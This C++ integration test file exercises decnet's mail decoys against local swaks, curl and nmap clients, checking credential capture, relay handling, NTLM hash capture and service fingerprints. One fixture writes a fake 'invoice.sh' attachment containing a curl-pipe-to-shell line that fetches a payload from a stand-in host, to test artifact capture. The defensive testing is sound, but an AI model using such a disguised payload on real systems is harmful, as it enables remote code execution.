// `decnet up` with the mail services against real clients: swaks logs in (captured) over
// STARTTLS and implicit TLS, is refused as a relay by smtp and accepted (kept, not
// delivered) by smtp_relay, and a message with an attachment to a local user becomes
// artifacts; curl lists and fetches the bait mailbox over IMAPS, IMAP with STARTTLS and POP3
// with an accepting persona; nmap -sV, twice, names Postfix and Dovecot on every port.
// Subnet 127.207.0.0/16 belongs to this file.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "integration/background_process.hpp"
#include "integration/cli_runner.hpp"
#include "integration/stored_logs.hpp"
#include "store/repository.hpp"

namespace decnet::testing {
namespace {

using ::testing::ContainsRegex;
using ::testing::HasSubstr;
using ::testing::Not;

std::string joined(const std::vector<std::string>& rows) {
    std::string all;
    for (const auto& r : rows) all += r + "\n";
    return all;
}

constexpr const char* kSmtpFleet =
    "[general]\nnet = 127.207.10.0/24\n\n"
    "[mx]\nip = 127.207.10.10\ndistro = debian\nservices = smtp\n\n"
    "[relay]\nip = 127.207.10.11\ndistro = debian\nservices = smtp_relay\n";

TEST(CliMail, SwaksIsCapturedRefusedAsARelayAndItsMailKept) {
    const auto dir = make_temp_dir();
    write_file(dir + "/fleet.ini", kSmtpFleet);
    BackgroundProcess up({DECNET_BINARY, "up", "--no-api", "--config", dir + "/fleet.ini", "--db",
                          dir + "/m.db", "--state-dir", dir},
                         dir);
    ASSERT_THAT(up.wait_for_output("decnet is up"), HasSubstr("127.207.10.11:465/tcp")) << up.err();
    const std::string swaks = "timeout 30 swaks --server ";

    // AUTH LOGIN after STARTTLS on 25, and over implicit TLS on 465: refused, captured.
    const auto login = capture(swaks +
                               "127.207.10.10 --to root@localhost --auth LOGIN --auth-user u "
                               "--auth-password p --tls </dev/null 2>&1");
    EXPECT_THAT(login, HasSubstr("220 2.0.0 Ready to start TLS"));
    EXPECT_THAT(login, HasSubstr("535 5.7.8 Error: authentication failed"));
    const auto smtps = capture(swaks +
                               "127.207.10.10 --port 465 --tls-on-connect --to root@localhost "
                               "--auth PLAIN --auth-user admin --auth-password 'S3cret!' "
                               "</dev/null 2>&1");
    EXPECT_THAT(smtps, HasSubstr("ESMTP Postfix (Debian/GNU)"));
    EXPECT_THAT(smtps, HasSubstr("535 5.7.8"));

    // A relay test: refused by smtp like a closed Postfix, accepted and kept by smtp_relay.
    const auto refused = capture(swaks +
                                 "127.207.10.10 --from spam@evil.example --to victim@example.net "
                                 "</dev/null 2>&1");
    EXPECT_THAT(refused, HasSubstr("554 5.7.1 <victim@example.net>: Relay access denied"));
    const auto relayed =
        capture(swaks +
                "127.207.10.11 --port 587 --from spam@evil.example --to "
                "victim@example.net --header 'Subject: relay check' </dev/null 2>&1");
    EXPECT_THAT(relayed, HasSubstr("250 2.0.0 Ok: queued as "));

    // Mail for a local user, with an attachment: the message and the attachment are artifacts.
    write_file(dir + "/invoice.sh", "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n");
    const auto local = capture(swaks +
                               "127.207.10.10 --from a@evil.example --to root@localhost "
                               "--attach @" +
                               dir + "/invoice.sh </dev/null 2>&1");
    EXPECT_THAT(local, HasSubstr("250 2.0.0 Ok: queued as "));
    const auto sha = capture("sha256sum " + dir + "/invoice.sh | cut -c1-64");
    ASSERT_EQ(sha.size(), 65u);

    auto repo = store::open_sqlite(dir + "/m.db");
    wait_for_logs(*repo, "decky:mx event:file_captured", 1);
    wait_for_logs(*repo, "decky:relay event:message_accepted", 1);
    wait_for_logs(*repo, "decky:mx event:disconnect", 4);
    EXPECT_EQ(up.stop(), 0) << up.err();

    const auto auths = joined(stored_fields(*repo, "decky:mx event:auth_attempt"));
    EXPECT_THAT(
        auths,
        HasSubstr(
            R"("username":"u","password":"p","credential_type":"cleartext","mechanism":"LOGIN","tls":"True","status":"failed")"));
    EXPECT_THAT(auths, HasSubstr(R"("username":"admin","password":"S3cret!")"));
    EXPECT_THAT(joined(stored_fields(*repo, "decky:mx event:rcpt_denied")),
                HasSubstr(R"("value":"victim@example.net","reason":"relay")"));
    const auto relay = joined(stored_fields(*repo, "decky:relay event:message_accepted"));
    EXPECT_THAT(relay,
                HasSubstr(R"("mail_from":"spam@evil.example","rcpt_to":"victim@example.net")"));
    EXPECT_THAT(relay, HasSubstr(R"("subject":"relay check")"));
    EXPECT_THAT(relay, HasSubstr(R"("stored":"True")"));
    EXPECT_THAT(relay, HasSubstr(R"("relay_test":"True")"));
    const auto files = joined(stored_fields(*repo, "decky:mx event:file_captured"));
    EXPECT_THAT(files, HasSubstr(R"("sha256":")" + sha.substr(0, 64) + "\""));
    EXPECT_THAT(files, HasSubstr(R"("filename":"invoice.sh")"));
    EXPECT_EQ(read_file(dir + "/artifacts/" + sha.substr(0, 64)),
              "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n");
    // The queued message itself is kept too, with the trace header the MTA adds.
    const auto accepted = stored_fields(*repo, "decky:mx event:message_accepted");
    ASSERT_FALSE(accepted.empty());
    const auto at = accepted[0].find(R"("sha256":")");
    ASSERT_NE(at, std::string::npos);
    const auto message = read_file(dir + "/artifacts/" + accepted[0].substr(at + 10, 64));
    EXPECT_THAT(message, HasSubstr("Received: from "));
    EXPECT_THAT(message, ContainsRegex("\tby [A-Za-z0-9.-]+ with ESMTP id [0-9A-F]{10}"));
}

constexpr const char* kMailboxFleet =
    "[general]\nnet = 127.207.20.0/24\n\n"
    "[mbox]\nip = 127.207.20.10\ndistro = debian\nservices = imap,pop3\n\n"
    "[mbox.imap]\naccept = any\n\n[mbox.pop3]\naccept = list\nlogins = carol:Passw0rd\n";

TEST(CliMail, CurlListsAndFetchesBaitOverImapAndPop3) {
    const auto dir = make_temp_dir();
    write_file(dir + "/fleet.ini", kMailboxFleet);
    BackgroundProcess up({DECNET_BINARY, "up", "--no-api", "--config", dir + "/fleet.ini", "--db",
                          dir + "/b.db", "--state-dir", dir},
                         dir);
    ASSERT_THAT(up.wait_for_output("decnet is up"), HasSubstr("127.207.20.10:995/tcp")) << up.err();
    EXPECT_EQ(capture("timeout 20 curl -sk imaps://127.207.20.10/INBOX -u u:p"),
              "* LIST (\\HasNoChildren) \"/\" INBOX\r\n");
    const auto reset = capture("timeout 20 curl -sk 'imaps://127.207.20.10/INBOX;UID=5' -u u:p");
    EXPECT_THAT(reset, HasSubstr("Subject: Password reset for your account"));
    EXPECT_THAT(reset, ContainsRegex("Your temporary password is: [A-Za-z]+20[0-9]{2}![0-9]{2}"));
    // STARTTLS on 143.
    const auto invoice = capture(
        "timeout 20 curl -sk --ssl-reqd 'imap://127.207.20.10/INBOX;MAILINDEX=1' -u bob:pw");
    EXPECT_THAT(invoice, HasSubstr("Content-Type: application/pdf; name=\"INV-"));
    // POP3: a wrong password is refused, the persona's own lets in.
    EXPECT_THAT(capture("timeout 20 curl -s pop3://127.207.20.10/ -u carol:wrong 2>&1; echo rc=$?"),
                HasSubstr("rc=67"));
    const auto list = capture("timeout 20 curl -s pop3://127.207.20.10/ -u carol:Passw0rd");
    EXPECT_THAT(list,
                ContainsRegex("^1 [0-9]+\r\n2 [0-9]+\r\n3 [0-9]+\r\n4 [0-9]+\r\n5 [0-9]+\r\n$"));
    EXPECT_THAT(capture("timeout 20 curl -s pop3://127.207.20.10/2 -u carol:Passw0rd"),
                HasSubstr("Username: carol"));
    EXPECT_THAT(capture("timeout 20 curl -sk pop3s://127.207.20.10/3 -u carol:Passw0rd"),
                HasSubstr("database migration"));

    auto repo = store::open_sqlite(dir + "/b.db");
    wait_for_logs(*repo, "service:pop3 event:retr", 2);
    wait_for_logs(*repo, "service:imap event:fetch", 2);
    EXPECT_EQ(up.stop(), 0) << up.err();
    const auto imap = joined(stored_fields(*repo, "service:imap event:auth"));
    EXPECT_THAT(imap, HasSubstr(R"("username":"u","password":"p")"));
    EXPECT_THAT(imap, HasSubstr(R"("username":"bob","password":"pw")"));
    EXPECT_THAT(imap, HasSubstr(R"("tls":"True","status":"success")"));
    const auto pop3 = joined(stored_fields(*repo, "service:pop3 event:auth"));
    EXPECT_THAT(pop3, HasSubstr(R"("username":"carol","password":"wrong")"));
    EXPECT_THAT(pop3, HasSubstr(R"("status":"failed")"));
    EXPECT_THAT(pop3, HasSubstr(R"("status":"success")"));
    EXPECT_THAT(joined(stored_fields(*repo, "service:imap event:starttls")),
                HasSubstr(R"("status":"success")"));
}

constexpr const char* kExchangeFleet =
    "[general]\nnet = 127.207.40.0/24\n\n"
    "[exch]\nip = 127.207.40.10\ndistro = debian\nservices = imap,smtp\n\n"
    "[exch.imap]\nproduct = exchange\naccept = any\n\n[exch.smtp]\nproduct = exchange\n";

TEST(CliMail, CurlNtlmOnAnExchangePersonaIsCapturedAsNetNtlmv2) {
    const auto dir = make_temp_dir();
    write_file(dir + "/fleet.ini", kExchangeFleet);
    BackgroundProcess up({DECNET_BINARY, "up", "--no-api", "--config", dir + "/fleet.ini", "--db",
                          dir + "/x.db", "--state-dir", dir},
                         dir);
    ASSERT_THAT(up.wait_for_output("decnet is up"), HasSubstr("127.207.40.10:993/tcp")) << up.err();
    EXPECT_EQ(capture("timeout 20 curl -s imap://127.207.40.10/INBOX -u 'CORP\\jdoe:Winter1' "
                      "--login-options AUTH=NTLM"),
              "* LIST (\\HasNoChildren) \"/\" INBOX\r\n");
    EXPECT_THAT(capture("timeout 20 curl -s smtp://127.207.40.10 --mail-from a@b.c --mail-rcpt "
                        "root@localhost -u 'CORP\\jdoe:Winter1' --login-options AUTH=NTLM "
                        "-T /dev/null; echo rc=$?"),
                HasSubstr("rc=67"));
    auto repo = store::open_sqlite(dir + "/x.db");
    wait_for_logs(*repo, "service:smtp event:auth_attempt", 1);
    wait_for_logs(*repo, "service:imap event:auth", 1);
    EXPECT_EQ(up.stop(), 0) << up.err();
    const std::string hash =
        R"("username":"jdoe","password":"jdoe::CORP:[0-9a-f]{16}:[0-9a-f]{32}:)";
    EXPECT_THAT(
        joined(stored_fields(*repo, "service:imap event:auth")),
        ContainsRegex(
            hash + R"(.*"credential_type":"netntlmv2","hashcat_mode":"5600".*"status":"success")"));
    EXPECT_THAT(joined(stored_fields(*repo, "service:smtp event:auth_attempt")),
                ContainsRegex(hash + R"(.*"mechanism":"NTLM".*"status":"failed")"));
}

TEST(CliMail, NmapNamesThePersonaProductsOnEveryMailPort) {
    const auto dir = make_temp_dir();
    BackgroundProcess up(
        {DECNET_BINARY, "up", "--no-api", "-n", "1", "--services", "smtp,imap,pop3", "--distro",
         "debian", "--subnet", "127.207.30.0/24", "--db", dir + "/n.db", "--state-dir", dir},
        dir);
    ASSERT_THAT(up.wait_for_output("decnet is up"), HasSubstr("127.207.30.1:993/tcp")) << up.err();
    for (int run = 1; run <= 2; ++run) {
        const auto scan =
            capture("timeout 150 nmap -n -sV -Pn -p 25,110,143,587,993,995,465 127.207.30.1 2>&1");
        EXPECT_THAT(scan, ContainsRegex("25/tcp +open +smtp +Postfix smtpd")) << scan;
        EXPECT_THAT(scan, ContainsRegex("587/tcp +open +smtp +Postfix smtpd")) << scan;
        EXPECT_THAT(scan, ContainsRegex("465/tcp +open +ssl/smtp +Postfix smtpd")) << scan;
        EXPECT_THAT(scan, ContainsRegex("110/tcp +open +pop3 +Dovecot pop3d")) << scan;
        EXPECT_THAT(scan, ContainsRegex("995/tcp +open +ssl/pop3 +Dovecot pop3d")) << scan;
        EXPECT_THAT(scan, ContainsRegex("143/tcp +open +imap +Dovecot imapd")) << scan;
        EXPECT_THAT(scan, ContainsRegex("993/tcp +open +ssl/imap +Dovecot imapd")) << scan;
        EXPECT_THAT(scan, Not(HasSubstr("decky-01"))) << scan;
    }
    EXPECT_EQ(up.stop(), 0) << up.err();
}

}  // namespace
}  // namespace decnet::testing
